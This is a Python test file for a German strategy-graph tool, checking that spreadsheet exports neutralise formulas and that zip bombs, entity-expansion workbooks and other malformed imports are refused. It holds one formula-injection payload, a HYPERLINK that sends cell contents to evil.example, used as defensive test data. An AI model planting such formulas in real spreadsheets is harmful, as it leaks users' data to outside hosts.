"""Spreadsheets that cannot hurt: no formula leaves the project (every exported cell is read back by type), the
CSV guard is its own inverse, and every hostile file of tests/hostile.py is refused with a German message and the
importer's usual exit code — never a traceback. Peak memory and time of the full-size files: bench/import_bench.py.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from rdflib import Graph, Literal

from stratgraph.api.app import create_app
from stratgraph.cli import EXIT_INVALID, EXIT_OK, EXIT_USAGE, main
from stratgraph.config import Settings
from stratgraph.model.namespaces import STRAT
from stratgraph.model.tabular import FORMULA_STARTS, ImportLimits, TableError, from_csv, read_csv, read_xlsx, to_csv
from stratgraph.strategies.links import LinkImportError, _read_table

from . import hostile
from .conftest import ROOT

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Mehr erfahren")'
PLAIN = "Das Projekt stellt 1.000 Bänke im öffentlichen Raum auf; es trägt unmittelbar bei zu Unterziel 11.7"


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """A copy of the project the refused imports point at: a bug could not touch the repository's data."""
    root = tmp_path_factory.mktemp("abfall")
    for folder in ("ontology", "data", "shapes", "queries"):
        shutil.copytree(ROOT / folder, root / folder)
    return Settings(root=root)


@pytest.fixture()
def evil_project(tmp_path: Path) -> Settings:
    """A copy of the project in which one rationale is a formula, as an attacker would write it."""
    for folder in ("ontology", "data", "shapes", "queries"):
        shutil.copytree(ROOT / folder, tmp_path / folder)
    links = tmp_path / "data" / "bochum" / "zuordnungen.ttl"
    lines = links.read_text(encoding="utf-8").splitlines(keepends=True)
    number = next(i for i, line in enumerate(lines) if PLAIN in line)  # the whole rationale becomes the formula
    lines[number] = '    strat:begruendung "' + EVIL.replace('"', '\\"') + '"@de ;\n'
    links.write_text("".join(lines), encoding="utf-8")
    return Settings(root=tmp_path)


def _cli(settings: Settings, *argv: str) -> int:
    return main(["--root", str(settings.root), *argv])


def _formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [f"{ws.title}!{c.coordinate}" for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


@given(st.text(max_size=40))
def test_the_csv_guard_is_its_own_inverse_and_leaves_no_formula_start(text: str) -> None:
    guarded = to_csv(text)
    assert from_csv(guarded) == text
    assert not guarded.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_guarded(start: str) -> None:
    assert to_csv(start + "1+1") == "'" + start + "1+1"
    assert to_csv("'" + start + "x") == "''" + start + "x"  # text that begins with the guard itself
    assert to_csv("Bürgerservice") == "Bürgerservice" and to_csv("'Zitat'") == "'Zitat'"


def test_no_formula_leaves_the_cli_and_the_import_takes_it_back(
    evil_project: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    xlsx, sheet = tmp_path / "links.xlsx", tmp_path / "links.csv"
    assert _cli(evil_project, "links", "export", str(xlsx)) == EXIT_OK
    assert _cli(evil_project, "links", "export", str(sheet)) == EXIT_OK
    assert _formula_cells(xlsx.read_bytes()) == []
    book = load_workbook(xlsx)
    assert EVIL in [c.value for row in book["Zuordnungen"].iter_rows() for c in row]
    with sheet.open(encoding="utf-8-sig", newline="") as f:
        rationales = [row["begruendung"] for row in csv.DictReader(f)]
    assert "'" + EVIL in rationales and EVIL not in rationales
    links = evil_project.root / "data" / "bochum" / "zuordnungen.ttl"
    before = links.read_bytes()
    capsys.readouterr()
    assert _cli(evil_project, "links", "import", str(sheet)) == EXIT_OK  # export → import is the identity
    assert links.read_bytes() == before
    warning = capsys.readouterr().err
    assert "Spalte „begruendung“: der Text beginnt wie eine Formel" in warning and "Zeile " in warning
    assert _cli(evil_project, "links", "import", str(xlsx)) == EXIT_OK
    assert links.read_bytes() == before
    export = tmp_path / "bochum.xlsx"
    assert _cli(evil_project, "vorlage", str(export)) == EXIT_OK
    assert _formula_cells(export.read_bytes()) == []


def test_no_formula_leaves_the_service_but_sparql_results_stay_faithful(evil_project: Settings) -> None:
    with TestClient(create_app(evil_project)) as client:
        for url in ("/abdeckung/zuordnungen.xlsx", "/abdeckung/matrix.xlsx"):
            assert _formula_cells(client.get(url).content) == [], url
        downloads = client.get("/abdeckung/zuordnungen.csv").content.decode("utf-8-sig")
        assert "'" + EVIL.replace('"', '""') in downloads
        links = Graph().parse(evil_project.data / "bochum" / "zuordnungen.ttl")
        (link,) = links.subjects(STRAT.begruendung, Literal(EVIL, lang="de"))
        source = str(links.value(link, STRAT.zuordnungVon))
        named = client.get("/api/queries/zuordnungen", params={"format": "csv", "von_iri": source}).text
        assert "'" + EVIL.replace('"', '""') in named
        query = (
            'SELECT ?b WHERE { ?z <https://w3id.org/stratgraph/ontology#begruendung> ?b FILTER(STRSTARTS(?b, "=")) }'
        )
        results = client.get("/sparql", params={"query": query}, headers={"Accept": "text/csv"}).text
        assert results.splitlines()[1] == '"' + EVIL.replace('"', '""') + '"'  # SPARQL 1.1 CSV: the value as it is


SMALL = {  # the hostile files at a size a test can build in a moment, with the limits they pass
    "behauptete-dimension": lambda d: hostile.claimed_dimension(d),
    "breit": lambda d: hostile.wide(d, rows=20, columns=80),
    "viele-blaetter": lambda d: hostile.many_sheets(d, count=40),
    "zip-bombe": lambda d: hostile.zip_bomb(d, unpacked=24 << 20),
    "entitaeten": hostile.entity_expansion,
    "abgeschnitten": hostile.truncated,
    "kein-arbeitsbuch": hostile.not_a_workbook,
}
CSV_SMALL = {
    "cp1252": hostile.wrong_encoding,
    "leerzeilen": lambda d: hostile.empty_rows(d, count=25_000),
    "langes-feld": lambda d: hostile.long_field(d, size=25_000),
    "lange-zeile": lambda d: hostile.long_line(d, size=3 << 20),
    "nullbytes": hostile.nul_bytes,
}
LIMITS = {"STRATGRAPH_IMPORT_MAX_UNPACKED": str(16 << 20), "STRATGRAPH_IMPORT_MAX_BYTES": str(2 << 20)}


@pytest.fixture()
def limited(monkeypatch: pytest.MonkeyPatch) -> None:
    """The import limits the small hostile files pass (the defaults hold for the full-size ones: the benchmark)."""
    for variable, value in LIMITS.items():
        monkeypatch.setenv(variable, value)


@pytest.mark.parametrize("name", sorted(SMALL))
def test_hostile_workbooks_are_refused_by_both_importers(
    name: str, scratch: Settings, tmp_path: Path, limited: None, capsys: pytest.CaptureFixture[str]
) -> None:
    path = SMALL[name](tmp_path)
    links = scratch.data / "bochum" / "zuordnungen.ttl"
    before = links.read_bytes()
    assert _cli(scratch, "links", "import", str(path)) == EXIT_INVALID  # the link import's usual exit
    links_message = capsys.readouterr().err
    assert links_message.startswith("Fehler: Abgebrochen, nichts geändert") and "Traceback" not in links_message
    assert _cli(scratch, "import-stadt", str(path), "--stadt", "neu") == EXIT_USAGE  # the workbook import's
    workbook_message = capsys.readouterr().err
    assert workbook_message.startswith("Fehler: Die Vorlage wurde nicht übernommen")
    assert not (scratch.data / "neu").exists() and links.read_bytes() == before


@pytest.mark.parametrize("name", sorted(CSV_SMALL))
def test_hostile_csv_files_are_refused(
    name: str, scratch: Settings, tmp_path: Path, limited: None, capsys: pytest.CaptureFixture[str]
) -> None:
    path = CSV_SMALL[name](tmp_path)
    assert _cli(scratch, "links", "import", str(path)) == EXIT_INVALID
    message = capsys.readouterr().err
    assert message.startswith("Fehler: Abgebrochen, nichts geändert") and path.name in message
    assert len(message.splitlines()) <= 3  # one clear line, not a million


def test_what_each_refusal_says(tmp_path: Path) -> None:
    limits = ImportLimits(max_bytes=2 << 20, max_unpacked=16 << 20)
    said = {}
    for name, build in {**SMALL, **CSV_SMALL}.items():
        folder = tmp_path / name
        folder.mkdir()
        path = build(folder)
        with pytest.raises(TableError) as refused:
            read_xlsx(path, limits) if path.suffix == ".xlsx" else read_csv(path, limits)
        said[name] = str(refused.value)
    assert "reicht bis Zeile 50,000, Spalte 16,384" in said["behauptete-dimension"]
    assert "reicht bis Zeile 20, Spalte 80" in said["breit"]
    assert "41 Blätter, erlaubt sind 30" in said["viele-blaetter"]
    assert "ZIP-Bombe" in said["zip-bombe"]
    assert "deklariert Entitäten oder eine DTD" in said["entitaeten"]
    assert (
        "keine lesbare XLSX-Datei" in said["abgeschnitten"] and "keine lesbare XLSX-Datei" in said["kein-arbeitsbuch"]
    )
    assert "keine UTF-8-Datei" in said["cp1252"] and "CSV UTF-8" in said["cp1252"]
    assert "mehr als 20,000 Zeilen" in said["leerzeilen"]
    assert "mehr als 20,000 Zeichen" in said["langes-feld"]
    assert "Bytes, erlaubt sind 2,097,152" in said["lange-zeile"]
    assert "Nullbytes" in said["nullbytes"]


def test_error_lists_are_capped_the_same_everywhere(tmp_path: Path) -> None:
    row = "gibt-es-nicht-{},11,,,,direkt,x,redaktionell,vorgeschlagen,Stadt,2026-01-01"
    rows = [hostile.LINK_HEADER, *(row.format(i) for i in range(300))]
    path = tmp_path / "viele-fehler.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    with pytest.raises(LinkImportError) as refused:
        from stratgraph.model.graph import load_strategy
        from stratgraph.strategies.links import parse_link_rows

        parse_link_rows(_read_table(path), load_strategy(Settings(root=ROOT)).merged())
    text, count = str(refused.value), len(refused.value.errors)
    assert count >= 300 and f"({count} Fehler)" in text  # every row has at least its unknown resource
    assert f"… und {count - 40} weitere" in text and len(text.splitlines()) == 42


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=3000), st.sampled_from([".csv", ".xlsx"]))
def test_fuzz_any_bytes_are_read_or_refused(tmp_path: Path, content: bytes, suffix: str) -> None:
    path = tmp_path / f"zufall{suffix}"
    path.write_bytes(content)
    try:
        _read_table(path)
    except LinkImportError as exc:
        assert exc.errors and all(isinstance(e, str) and e for e in exc.errors)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.integers(min_value=0, max_value=4000), st.integers(0, 255)), min_size=1, max_size=8))
def test_fuzz_damaged_workbooks_are_read_or_refused(tmp_path: Path, damage: list[tuple[int, int]]) -> None:
    source = hostile.wide(tmp_path, rows=5, columns=5)
    data = bytearray(source.read_bytes())
    for position, value in damage:
        data[position % len(data)] = value
    source.write_bytes(bytes(data))
    try:
        read_xlsx(source, ImportLimits())
    except TableError as exc:
        assert exc.errors
    except zipfile.BadZipFile:  # pragma: no cover - would be a bug: it must arrive as TableError
        pytest.fail("BadZipFile escaped")
